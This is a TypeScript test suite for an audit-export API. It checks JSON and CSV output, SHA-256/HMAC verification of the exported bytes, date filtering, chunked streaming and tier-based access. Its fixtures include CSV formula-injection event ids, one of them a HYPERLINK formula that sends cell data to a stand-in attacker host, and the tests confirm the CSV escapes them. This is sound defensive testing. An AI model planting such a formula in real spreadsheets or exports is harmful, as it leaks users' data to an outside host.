import { createHash, createHmac, hkdfSync } from "node:crypto";
import { eq, sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { AUDIT_COLUMNS, auditChunks } from "../../src/db/queries/audit";
import { notifications } from "../../src/db/schema";
import { rows } from "../../src/db/types";
import { createKeys, randomBytes } from "../../src/lib/crypto";
import type { ChangeEvent } from "../../src/lib/event-schema";
import { call, createTestContext, createUser, postEvent, type TestContext, type TestUser, uniq, watch } from "../helpers/app";
import { createDelivery, type Delivery, type Providers, startProviders } from "../helpers/delivery";
import { freshEvent } from "../helpers/events";

type Json = Record<string, unknown>;
type Row = Record<string, string | number | null>;

const secret = randomBytes(32);
let ctx: TestContext;
let p: Providers;
let d: Delivery;

beforeAll(async () => {
  ctx = await createTestContext({ allowPrivateWebhooks: true, keys: await createKeys(secret) });
  p = await startProviders();
  d = createDelivery(ctx, p);
});
afterAll(async () => {
  await p.close();
  await ctx.close();
});

/** The export as received: the exact bytes, the header id, the response headers. */
async function exportOf(u: TestUser, query: string) {
  const res = await ctx.app.request(`/v1/audit/export?${query}`, { headers: { authorization: `Bearer ${u.key}` } });
  const bytes = new Uint8Array(await res.arrayBuffer());
  return {
    status: res.status,
    headers: res.headers,
    bytes,
    text: new TextDecoder().decode(bytes),
    id: res.headers.get("x-export-id"),
  };
}

const record = async (u: TestUser, id: string) =>
  call(ctx, "GET", `/v1/audit/exports/${encodeURIComponent(id)}`, { token: u.key });

/** What an auditor does, with nothing but the file, the record and the audit key (HKDF of SECRET_KEY). */
function verify(bytes: Uint8Array, rec: Json): boolean {
  const auditKey = Buffer.from(hkdfSync("sha256", secret, "clausewatch", "audit-exports", 32)).toString("hex");
  const sha256 = createHash("sha256").update(bytes).digest("hex");
  const hmac = createHmac("sha256", auditKey).update(sha256).digest("hex");
  return rec.sha256 === sha256 && rec.hmac === hmac;
}

/** A strict RFC 4180 reader: quoted fields, doubled quotes, CRLF records; anything else throws. */
function parseCsv(text: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  let wasQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch !== '"') cell += ch;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (ch === '"') {
      if (cell !== "" || wasQuoted) throw new Error(`stray quote at ${i}`);
      quoted = wasQuoted = true;
    } else if (ch === ",") {
      row.push(cell);
      cell = "";
      wasQuoted = false;
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      out.push(row);
      row = [];
      cell = "";
      wasQuoted = false;
      i++;
    } else if (ch === "\r" || ch === "\n") throw new Error(`bare line break at ${i}`);
    else cell += ch;
  }
  if (quoted || cell !== "" || row.length > 0) throw new Error("the last record is not CRLF-terminated");
  return out;
}

const FORMULA = /^[=+\-@\t\r]/;
const csvText = (v: string | number | null) =>
  v === null ? "" : typeof v === "number" ? String(v) : FORMULA.test(v) ? `'${v}` : v;
const byKey = (a: Row, b: Row) =>
  String(a.notification_id).localeCompare(String(b.notification_id)) ||
  String(a.event_id ?? "").localeCompare(String(b.event_id ?? ""));

describe("audit export", () => {
  let u: TestUser;
  let hookId: string;
  let posted: ChangeEvent[];
  let expected: Row[];

  beforeAll(async () => {
    u = await createUser(ctx, { tier: "professional" });
    expect((await call(ctx, "PATCH", "/v1/me", { token: u.key, body: { alerts: { window_minutes: 0 } } })).status).toBe(200);
    const hook = await call(ctx, "POST", "/v1/channels", {
      token: u.key,
      body: { type: "webhook", url: `${p.receiver.url}/audit` },
    });
    hookId = hook.json.id as string;
    const first = freshEvent("01-anthropic-ai-training");
    await watch(ctx, u, { platform: first.platform.slug });
    const on = (fixture: string, id: string) => freshEvent(fixture, { platformSlug: first.platform.slug, id });
    // ids that a spreadsheet would evaluate, and one that needs quoting
    const hostile = [
      on("05-anthropic-arbitration", `=HYPERLINK("http://evil.example/"&A1,"x")-${uniq()}`),
      on("02-ideogram-training", `+1+1-${uniq()}`),
      on("04-windsurf-subprocessors", `-2+3-${uniq()}`),
      on("03-netflix-ai-prohibition", `@SUM(1,1)-${uniq()}`),
      on("01-anthropic-ai-training", `plain "quoted", id-${uniq()}`),
    ];
    posted = [first, ...hostile];

    ctx.clock.advance(1000);
    expect((await postEvent(ctx, first)).fanout?.alerts).toBe(2);
    await d.dispatcher.runOnce(); // both sent
    ctx.clock.advance(1000);
    for (const e of hostile) await postEvent(ctx, e); // they join one open alert per channel
    p.receiver.script({ status: 500 });
    await d.dispatcher.runOnce(); // email sent; the webhook waits for a retry, with its error
    ctx.clock.advance(1000);
    expect((await call(ctx, "POST", `/v1/channels/${hookId}/test`, { token: u.key })).status).toBe(202);

    // a digest carries its events in its plan (watchlist, then highlights)
    ctx.clock.advance(1000);
    const now = ctx.clock.now().toISOString();
    const plan = {
      period: { start: now, end: now },
      watchlist: [first.id],
      highlights: [hostile[0].id],
      coverage: { events: 1, platforms: 1 },
      watched_platforms: 1,
    };
    const [{ id: digestId }] = await rows<{ id: string }>(
      ctx.database.db,
      sql`insert into digests (user_id, period_start, period_end, item_count, plan, created_at)
        values (${u.id}, ${now}::timestamptz - interval '7 days', ${now}::timestamptz, 1, ${JSON.stringify(plan)}::jsonb, ${now}::timestamptz)
        returning id`,
    );
    const account = ((await call(ctx, "GET", "/v1/channels", { token: u.key })).json.items as Json[]).find(
      (c) => c.type === "email",
    );
    await ctx.database.db.insert(notifications).values({
      userId: u.id,
      channelId: account?.id as string,
      kind: "digest",
      digestId,
      nextAttemptAt: ctx.clock.now(),
      createdAt: ctx.clock.now(),
      updatedAt: ctx.clock.now(),
    });
    ctx.clock.advance(1000);

    // the expected rows, from what the API and the database say, field by field
    const listed = (await call(ctx, "GET", "/v1/notifications?limit=200", { token: u.key })).json.items as Json[];
    expect(listed).toHaveLength(6); // 2 + 2 alerts, 1 test, 1 digest
    const channels = Object.fromEntries(
      ((await call(ctx, "GET", "/v1/channels", { token: u.key })).json.items as Json[]).map((c) => [c.id, c]),
    );
    const stored = Object.fromEntries(
      (await ctx.database.db.select().from(notifications).where(eq(notifications.userId, u.id))).map((n) => [n.id, n]),
    );
    const eventById = Object.fromEntries(posted.map((e) => [e.id, e]));
    expected = listed.flatMap((n) => {
      const ch = channels[n.channel_id as string];
      const db = stored[n.id as string];
      const base: Row = {
        notification_id: n.id as string,
        kind: n.kind as string,
        channel_id: n.channel_id as string,
        channel_type: ch.type as string,
        channel_target: ch.target as string,
        status: n.status as string,
        status_reason: n.status_reason as string | null,
        attempts: n.attempts as number,
        created_at: n.created_at as string,
        updated_at: db.updatedAt.toISOString(),
        sent_at: n.sent_at as string | null,
        provider_message_id: n.provider_message_id as string | null,
        last_error: n.last_error as string | null,
      };
      const ids = n.kind === "digest" ? [first.id, hostile[0].id] : (n.event_ids as string[]);
      if (ids.length === 0) return [{ ...base, ...Object.fromEntries(AUDIT_COLUMNS.slice(13).map((c) => [c, null])) }];
      return ids.map((id) => {
        const e = eventById[id];
        return {
          ...base,
          event_id: e.id,
          event_type: e.type,
          occurred_at: new Date(e.occurred_at).toISOString(),
          platform: e.platform.slug,
          document: e.document.slug,
          severity: e.severity,
          content_sha256: e.evidence.content_sha256,
          source_url: e.evidence.source_url,
          archive_url: e.evidence.archive_url ?? null,
          captured_at: e.evidence.captured_at,
        };
      });
    });
    expect(expected).toHaveLength(2 + 2 * hostile.length + 1 + 2);
    // the fixture covers what it means to: a retry error, a provider id, a notification without events
    expect(expected.some((r) => r.last_error && r.status === "pending")).toBe(true);
    expect(expected.some((r) => r.provider_message_id)).toBe(true);
    expect(expected.some((r) => r.kind === "test" && r.event_id === null)).toBe(true);
  });

  it("JSON: one array, every notification × event, field by field, oldest first", async () => {
    const x = await exportOf(u, "format=json");
    expect(x.status).toBe(200);
    expect(x.headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(x.headers.get("content-encoding")).toBeNull();
    expect(x.headers.get("cache-control")).toContain("no-transform");
    expect(x.id).toMatch(/^aex_[0-9a-f]{32}$/);
    const body = JSON.parse(x.text) as Row[];
    for (const r of body) expect(Object.keys(r)).toEqual([...AUDIT_COLUMNS]);
    expect([...body].sort(byKey)).toEqual([...expected].sort(byKey));
    const created = body.map((r) => String(r.created_at));
    expect(created).toEqual([...created].sort());
    // JSON is not a spreadsheet: values as they are
    expect(body.some((r) => String(r.event_id).startsWith("=HYPERLINK("))).toBe(true);
  });

  it("CSV: RFC 4180 with a header row, the same rows, formula cells escaped", async () => {
    const x = await exportOf(u, "format=csv");
    expect(x.status).toBe(200);
    expect(x.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(x.headers.get("content-disposition")).toBe(`attachment; filename="clausewatch-audit-${x.id}.csv"`);
    expect(x.text.endsWith("\r\n")).toBe(true);
    const [header, ...records] = parseCsv(x.text);
    expect(header).toEqual([...AUDIT_COLUMNS]);
    const asText = (r: Row) => AUDIT_COLUMNS.map((c) => csvText(r[c]));
    const sortCells = (a: string[], b: string[]) =>
      a[0].localeCompare(b[0]) || a[13].replace(/^'/, "").localeCompare(b[13].replace(/^'/, ""));
    expect([...records].sort(sortCells)).toEqual(expected.map(asText).sort(sortCells));
    const eventCells = records.map((r) => r[13]);
    for (const start of ["=", "+", "-", "@"]) {
      expect(eventCells.some((c) => c.startsWith(`'${start}`))).toBe(true);
      expect(eventCells.some((c) => c.startsWith(start))).toBe(false);
    }
    // the quoted id went through quoting and came back whole
    expect(eventCells.filter((c) => c.startsWith('plain "quoted", id-')).length).toBeGreaterThan(0);
    expect(x.text).toContain('"plain ""quoted"", id-');
  });

  it("records the SHA-256 of exactly the bytes sent and its HMAC under the X-Export-Id", async () => {
    for (const format of ["json", "csv"] as const) {
      const x = await exportOf(u, `format=${format}`);
      const rec = await record(u, x.id as string);
      expect(rec.status).toBe(200);
      expect(rec.json).toMatchObject({
        id: x.id,
        status: "complete",
        format,
        since: null,
        until: null,
        rows: expected.length,
        bytes: x.bytes.length,
        created_at: ctx.clock.now().toISOString(),
      });
      expect(rec.json.sha256).toMatch(/^[0-9a-f]{64}$/);
      expect(verify(x.bytes, rec.json)).toBe(true);
      // one changed byte and the file no longer verifies
      const tampered = Uint8Array.from(x.bytes);
      tampered[Math.floor(tampered.length / 2)] ^= 1;
      expect(verify(tampered, rec.json)).toBe(false);
      // nor does the record under another key
      expect(rec.json.hmac).not.toBe(createHmac("sha256", "not the key").update(String(rec.json.sha256)).digest("hex"));
    }
  });

  it("since and until bound the notifications' creation (since inclusive, until exclusive)", async () => {
    const created = [...new Set(expected.map((r) => String(r.created_at)))].sort();
    expect(created.length).toBeGreaterThanOrEqual(3);
    const [since, until] = [created[1], created[created.length - 1]];
    const x = await exportOf(u, `format=json&since=${since}&until=${until}`);
    const body = JSON.parse(x.text) as Row[];
    const want = expected.filter((r) => String(r.created_at) >= since && String(r.created_at) < until);
    expect(want.length).toBeGreaterThan(0);
    expect([...body].sort(byKey)).toEqual([...want].sort(byKey));
    const rec = await record(u, x.id as string);
    expect(rec.json).toMatchObject({ since, until, rows: want.length, status: "complete" });
    expect(verify(x.bytes, rec.json)).toBe(true);
  });

  it("any chunk size gives the same rows in the same order (keyset splits inside a notification's events)", async () => {
    const whole = JSON.parse((await exportOf(u, "format=json")).text) as Row[];
    const cutoff = ctx.clock.now();
    for (const size of [1, 2, 3, 7]) {
      const got: Row[] = [];
      let chunks = 0;
      for await (const chunk of auditChunks(ctx.database.db, u.id, { cutoff }, size)) {
        expect(chunk.length).toBeLessThanOrEqual(size);
        got.push(...chunk);
        chunks++;
      }
      expect(got, `chunks of ${size}`).toEqual(whole);
      expect(chunks).toBeGreaterThanOrEqual(Math.ceil(whole.length / size));
    }
  });

  it("refuses bad parameters; another user's export is a 404", async () => {
    for (const q of ["format=xml", "since=yesterday", "since=2026-02-01T00:00:00Z&until=2026-01-01T00:00:00Z"]) {
      const x = await exportOf(u, q);
      expect(x.status, q).toBe(400);
      expect((JSON.parse(x.text).error as Json).code).toBe("invalid_request");
    }
    const mine = await exportOf(u, "format=csv");
    const other = await createUser(ctx, { tier: "professional" });
    expect((await record(other, mine.id as string)).status).toBe(404);
    expect((await record(u, "aex_00000000000000000000000000000000")).status).toBe(404);
    expect((await call(ctx, "GET", `/v1/audit/exports/${mine.id}`)).status).toBe(401);
    // an empty export is still one valid array, and verifiable
    const empty = await exportOf(other, "format=json");
    expect(JSON.parse(empty.text)).toEqual([]);
    expect(verify(empty.bytes, (await record(other, empty.id as string)).json)).toBe(true);
  });
});

describe("a large export", () => {
  let u: TestUser;
  const N = 1200; // notifications; every fourth without events, the others with three
  const base = new Date("2026-01-01T00:00:00.000Z");

  beforeAll(async () => {
    u = await createUser(ctx, { tier: "professional" });
    const events = [
      freshEvent("01-anthropic-ai-training"),
      freshEvent("02-ideogram-training"),
      freshEvent("06-openai-new-document"),
    ];
    for (const e of events) expect((await postEvent(ctx, e)).status).toBe(202);
    const account = ((await call(ctx, "GET", "/v1/channels", { token: u.key })).json.items as Json[])[0];
    await ctx.database.db.execute(sql`insert into notifications (user_id, channel_id, kind, status, attempts, next_attempt_at, created_at, updated_at, sent_at)
      select ${u.id}, ${account.id as string}, 'alert', 'sent', 1, t, t, t, t
      from (select ${base.toISOString()}::timestamptz + make_interval(secs => g) as t from generate_series(1, ${N}) g) s`);
    await ctx.database.db.execute(sql`insert into notification_events (notification_id, event_id)
      select n.id, e.id from notifications n cross join (values (${events[0].id}), (${events[1].id}), (${events[2].id})) as e(id)
      where n.user_id = ${u.id} and (extract(epoch from n.created_at - ${base.toISOString()}::timestamptz))::int % 4 <> 0`);
  });

  const total = (N / 4) * 1 + ((N * 3) / 4) * 3;

  it("streams across keyset chunks without losing or repeating a row", async () => {
    const x = await exportOf(u, "format=json");
    const body = JSON.parse(x.text) as Row[];
    expect(body).toHaveLength(total);
    expect(new Set(body.map((r) => `${r.notification_id}|${r.event_id}`)).size).toBe(total);
    const created = body.map((r) => String(r.created_at));
    expect(created).toEqual([...created].sort());
    const rec = await record(u, x.id as string);
    expect(rec.json).toMatchObject({ status: "complete", rows: total, bytes: x.bytes.length });
    expect(verify(x.bytes, rec.json)).toBe(true);
  });

  it("is pending while it streams, and incomplete when the client goes away mid-stream", async () => {
    const res = await ctx.app.request("/v1/audit/export?format=csv", { headers: { authorization: `Bearer ${u.key}` } });
    const id = res.headers.get("x-export-id") as string;
    expect((await record(u, id)).json.status).toBe("pending");
    const reader = (res.body as ReadableStream<Uint8Array>).getReader();
    let got = 0;
    for (let i = 0; i < 2; i++) {
      const { value } = await reader.read();
      got += value?.length ?? 0;
    }
    expect(got).toBeGreaterThan(1000);
    await reader.cancel();
    const rec = (await record(u, id)).json;
    expect(rec).toMatchObject({ status: "incomplete", sha256: null, hmac: null });
    expect(rec.rows).toBeGreaterThan(0);
    expect(rec.rows).toBeLessThan(total);
    expect(rec.completed_at).not.toBeNull();
  });
});

describe("audit export tier gate", () => {
  it.each([
    ["free", {}],
    ["watcher", { tier: "watcher" }],
    ["a Watcher trial", { trial: true }],
  ])("%s → 403 tier_limit, before the query is looked at", async (_name, body) => {
    const u = await createUser(ctx, body);
    for (const q of ["format=json", "format=xml&since=nope"]) {
      const x = await exportOf(u, q);
      expect(x.status).toBe(403);
      expect(x.id).toBeNull();
      expect((JSON.parse(x.text).error as Json).code).toBe("tier_limit");
    }
  });

  it("after a downgrade the export is refused, and earlier exports stay verifiable", async () => {
    const u = await createUser(ctx, { tier: "professional" });
    const x = await exportOf(u, "format=csv");
    expect(x.status).toBe(200);
    expect((await call(ctx, "PATCH", `/v1/admin/users/${u.id}`, { token: ctx.adminToken, body: { tier: "free" } })).status).toBe(
      200,
    );
    expect((await exportOf(u, "format=csv")).status).toBe(403);
    const rec = await record(u, x.id as string);
    expect(rec.status).toBe(200);
    expect(verify(x.bytes, rec.json)).toBe(true);
  });

  it("without a key → 401; both paths are in the OpenAPI document", async () => {
    expect((await ctx.app.request("/v1/audit/export?format=json")).status).toBe(401);
    const doc = (await call(ctx, "GET", "/openapi.json")).json as { paths: Record<string, Json> };
    expect(doc.paths["/v1/audit/export"]).toHaveProperty("get");
    expect(doc.paths["/v1/audit/exports/{id}"]).toHaveProperty("get");
  });
});
